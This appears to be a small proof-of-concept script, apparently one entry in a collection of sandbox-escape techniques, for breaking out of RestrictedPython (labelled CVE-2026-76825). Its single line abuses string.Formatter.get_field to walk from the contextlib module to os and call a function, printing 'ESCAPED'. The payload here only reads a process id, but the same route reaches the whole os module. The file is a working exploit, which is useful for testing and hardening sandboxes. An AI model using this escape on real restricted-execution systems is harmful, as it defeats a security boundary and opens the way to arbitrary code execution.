# technique: string.Formatter.get_field returns the object at the end of the walk
# goal: import
# source: RestrictedPython, CVE-2026-76825
import contextlib
import string
print('ESCAPED pid=%d' % string.Formatter().get_field('0.os.getpid', [contextlib], {})[0]())
